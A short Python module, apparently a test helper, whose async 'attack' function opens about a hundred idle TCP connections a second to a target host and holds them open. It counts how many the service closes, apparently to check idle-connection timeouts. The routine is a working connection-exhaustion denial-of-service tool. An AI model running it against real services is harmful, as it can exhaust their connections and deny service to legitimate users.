"""Somebody without a credential who opens connections, sends nothing, and never closes one."""

import asyncio
from collections import Counter
from contextlib import suppress
from urllib.parse import urlsplit

A_SECOND = 100
"""In a process with 1,024 file descriptors they would be fewer; in 30 seconds the service has closed as many."""


async def attack(url: str, over: asyncio.Event) -> Counter[int]:
    """How many were opened (0), and how many of them the service closed (1)."""
    got: Counter[int] = Counter()
    where = urlsplit(url)
    writers: list[asyncio.StreamWriter] = []

    async def wait(reader: asyncio.StreamReader) -> None:
        with suppress(OSError):
            await reader.read()
            got[1] += 1

    waiting = set()
    while not over.is_set():
        reader, writer = await asyncio.open_connection(where.hostname, where.port)
        got[0] += 1
        writers.append(writer)
        waiting.add(asyncio.ensure_future(wait(reader)))
        await asyncio.sleep(1 / A_SECOND)
    for task in waiting:
        task.cancel()
    for writer in writers:
        writer.close()
    return got
